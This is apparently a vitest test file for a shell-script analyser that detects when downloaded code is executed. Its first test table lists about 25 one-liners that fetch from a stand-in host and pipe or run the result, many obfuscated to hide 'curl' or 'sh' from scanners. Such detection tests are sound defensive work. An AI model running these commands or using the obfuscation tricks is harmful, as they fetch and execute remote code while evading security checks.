import { expect, test } from 'vitest';
import { removeEnd, removeStart, replaceIn } from '../../src/shell/patterns.js';
import { follow, only } from './support.js';

const runsDownload = (script: string) =>
  only(follow(script).facts, 'execute').some(({ origin, host }) => origin === 'downloaded' && host === 'x.example');

test.each([
  ['k=zyxwvutsrqponmlkjihgfedcba; c=${k:23:1}${k:5:1}${k:8:1}${k:14:1}; $c -s https://x.example | sh'],
  ['x=--curl--; y=${x##--}; ${y%%--} -s https://x.example | sh'],
  ['x=/opt/bin/curl; ${x##*/} -s https://x.example | ${SHELL##*/}'],
  ['x=cXuXrXl; ${x//X/} -s https://x.example | sh'],
  ['x=c1u2r3l; ${x//[0-9]/} -s https://x.example | sh'],
  ['x=CURL; ${x,,} -s https://x.example | sh'],
  ['x=CURL; ${x@L} -s https://x.example | sh'],
  ['printf -v c "%s%s" cu rl; $c -s https://x.example | sh'],
  ['w=(c u r l); $(printf %s "${w[@]}") -s https://x.example | sh'],
  ['IFS=: read -r a b <<< "curl:sh"; $a -s https://x.example | $b'],
  ['/u?r/b?n/cur? -s https://x.example | /b?n/s?'],
  ['c$@url -s https://x.example | b$@ash'],
  ['cu${nothing}rl -s https://x.example | ba${nothing}sh'],
  ['curl -s https://x.example | $SHELL'],
  ['mapfile -t l < <(curl -s https://x.example); for c in "${l[@]}"; do bash -c "$c"; done'],
  ["curl -s https://x.example | awk '{ system($0) }'"],
  ['curl -s https://x.example -o /tmp/e; BASH_ENV=/tmp/e bash -c true'],
  ['curl -s https://x.example -o /tmp/v; vim -es -S /tmp/v'],
  ['wget -q https://x.example/p -P /tmp; chmod a+x /tmp/p; /tmp/p --quiet &'],
  ['curl -sO --output-dir /var/tmp https://x.example/p; sh /var/tmp/p'],
  ['aria2c -d /tmp -o p https://x.example/a; sh /tmp/p'],
  ['axel https://x.example/p; sh p'],
  ['lwp-download https://x.example/p /tmp/p; sh /tmp/p'],
  ['wget -q https://x.example/z -O /tmp/z; find /tmp -name z -exec sh {} \\;'],
  ['deno run -A https://x.example/a.ts'],
])('%s', (script) => {
  expect(runsDownload(script)).toBe(true);
});

test.each([
  ['f=$1; base=${f##*/}; echo "${base%.*} ${base^^} ${base:0:3} ${base//-/_}"'],
  ['wget -P models https://x.example/m.bin; ls models'],
  ['for c in "${list[@]}"; do echo "$c"; done'],
])('%s runs nothing that was downloaded', (script) => {
  expect(only(follow(script).facts, 'execute')).toEqual([]);
});

test('patterns cut as the shell does', () => {
  expect(removeStart('a/b/c', '*/', false)).toBe('b/c');
  expect(removeStart('a/b/c', '*/', true)).toBe('c');
  expect(removeEnd('a.tar.gz', '.*', false)).toBe('a.tar');
  expect(removeEnd('a.tar.gz', '.*', true)).toBe('a');
  expect(removeStart('abc', 'x', false)).toBe('abc');
  expect(removeStart('abc', '$y', false)).toBeUndefined();
  expect(replaceIn('a-b-c', '-/_', true)).toBe('a_b_c');
  expect(replaceIn('a1b2', '[0-9]/', true)).toBe('ab');
  expect(replaceIn('abc', '[/x', true)).toBeUndefined();
});

test('a long text against a hard pattern takes no time', () => {
  const start = performance.now();
  removeStart('a'.repeat(100_000), '*a*a*b', true);
  removeEnd('/'.repeat(100_000), '*/*', true);
  replaceIn('a'.repeat(100_000), 'a?a?/x', true);
  expect(performance.now() - start).toBeLessThan(200);
});
